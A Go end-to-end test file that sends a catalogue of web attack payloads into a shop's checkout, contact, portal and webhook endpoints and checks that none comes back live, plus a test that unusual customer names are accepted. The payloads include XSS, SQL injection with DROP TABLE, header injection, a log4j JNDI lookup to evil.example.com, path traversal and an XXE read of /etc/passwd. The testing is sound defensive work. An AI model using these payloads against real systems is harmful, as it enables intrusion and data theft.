package e2e_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// canary marks what must not come back as markup.
const canary = "zq7canary"

// attacks are texts that mean something to some interpreter.
var attacks = map[string]string{
	"an element":          "<" + canary + " onload=alert(1)>",
	"out of an attribute": `"` + canary + `=1 onfocus="alert(1)`,
	"out of a quote":      `'` + canary + `=1 onfocus='alert(1)`,
	"a script":            "</title><script>" + canary + "</script>",
	"a template":          "{{" + canary + "}}${7*7}#{7*7}<%= 7*7 %>",
	"SQL":                 "' OR '1'='1'; DROP TABLE orders; -- " + canary,
	"a header":            "a\r\nBcc: eve@evil.example.com\r\n\r\n" + canary,
	"log4j":               "${jndi:ldap://evil.example.com/" + canary + "}",
	"a path":              "../../../../etc/passwd%00" + canary,
	"NUL":                 "a\x00" + canary,
	"broken UTF-8":        "\xff\xfe" + canary,
	"bidi":                "\u202e\u2066" + canary,
	"very long":           strings.Repeat(canary, 5000),
	"an entity":           `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;` + canary,
	"a script's address":  "javascript:alert('" + canary + "')",
	"many brackets":       strings.Repeat("(", 20000) + canary,
}

// Whatever a stranger types is data: kept or refused within a second, and never
// interpreted, wherever it is shown again.
func TestAttacksAreNeutralised(t *testing.T) {
	t.Parallel()
	s := open(t, filesOnly, with("TRUSTED_PROXIES", "127.0.0.1/32"))
	forms := map[string][]string{
		"/checkout":        {"customer_email", "contact_name", "target_url", "target_name", "form_token", "product", "homepage", "confirm"},
		"/contact":         {"name", "email", "company", "message"},
		"/portal/login":    {"email"},
		"/portal/enter":    {"token"},
		"/download":        {"token"},
		"/download/renew":  {"token"},
		"/api/checkout":    {"product"},
		"/webhooks/stripe": {"body"},
	}
	v := newVisitor(t)
	v.client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	n := 0
	send := func(what, method, address string, form url.Values) {
		n++
		v.header.Set("X-Forwarded-For", fmt.Sprintf("203.0.%d.%d", n/250, n%250))
		began := time.Now()
		resp, text := v.send(method, address, "application/x-www-form-urlencoded", strings.NewReader(form.Encode()))
		if resp.StatusCode >= http.StatusInternalServerError {
			t.Errorf("%s was answered %d", what, resp.StatusCode)
		}
		if took := time.Since(began); took > 5*time.Second { // a second, and the other tests of a slow machine
			t.Errorf("%s took %s", what, took)
		}
		for _, live := range []string{"<" + canary, "<script>" + canary, `"` + canary + "=", `'` + canary + "=", `href="javascript:`} {
			if strings.Contains(text, live) {
				t.Errorf("%s comes back as %q", what, live)
			}
		}
	}
	for path, fields := range forms {
		for name, attack := range attacks {
			for _, field := range fields {
				form := url.Values{
					"product": {"security-audit"}, "customer_email": {buyer}, "contact_name": {"Ada"}, "target_url": {"https://shop.example.com/"},
					"name": {"Ada"}, "email": {buyer}, "message": {"Hello"},
				}
				form.Set(field, attack)
				send(fmt.Sprintf("%s in %s of %s", name, field, path), http.MethodPost, s.ShopURL()+path, form)
			}
		}
	}
	for _, address := range []string{"/?lang=", "/products/", "/orders/", "/thank-you?session_id=", "/download?token=", "/portal/enter?token=", "/portal?done=", "/verify/", "/static/", "/contact?sent="} {
		for name, attack := range attacks {
			if len(attack) < 1000 {
				send(name+" in "+address, http.MethodGet, s.ShopURL()+address+url.QueryEscape(attack), nil)
			}
		}
	}
	if _, text := v.send(http.MethodPost, s.ShopURL()+"/contact", "application/x-www-form-urlencoded", strings.NewReader("message="+strings.Repeat("x", 10<<20))); strings.Contains(text, "xxxx") {
		t.Error("10 MB come back")
	}
	for _, m := range s.mails("", "") {
		if strings.Contains(m.HTML, "<"+canary) || strings.Contains(m.HTML, "<script>") || strings.Contains(m.To, "evil") {
			t.Errorf("the mail %s to %s carries an attack", m.Template, m.To)
		}
	}
}

// A wrong refusal loses a sale.
func TestNamesPass(t *testing.T) {
	t.Parallel()
	s := open(t, filesOnly, with("TRUSTED_PROXIES", "127.0.0.1/32"))
	v := newVisitor(t)
	v.client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	for i, name := range []string{
		"O'Brien", "Null", "李", "X Æ A-12", "Null Island", "Jean-Luc d'Or", "María-José Ñúñez", "Select Union", "Drop Table", "عبد الرحمن", "Ó Súilleabháin", "Nguyễn Thị Ánh",
		"A", "Test", "Admin", "undefined", "J. R. \"Bob\" Dobbs", "Smith & Sons", "100% Dev", "Влади́мир", "ゆうこ", "🦄", "True", "0", "-", "Robert (Bobby) Tables",
	} {
		form := fileForm()
		form.Set("product", "agent-playbook")
		form.Set("contact_name", name)
		v.header.Set("X-Forwarded-For", fmt.Sprintf("203.0.113.%d", i))
		if resp, _ := v.send(http.MethodPost, s.ShopURL()+"/checkout", "application/x-www-form-urlencoded", strings.NewReader(form.Encode())); resp.StatusCode != http.StatusSeeOther {
			t.Errorf("%q was answered %d", name, resp.StatusCode)
		}
	}
}
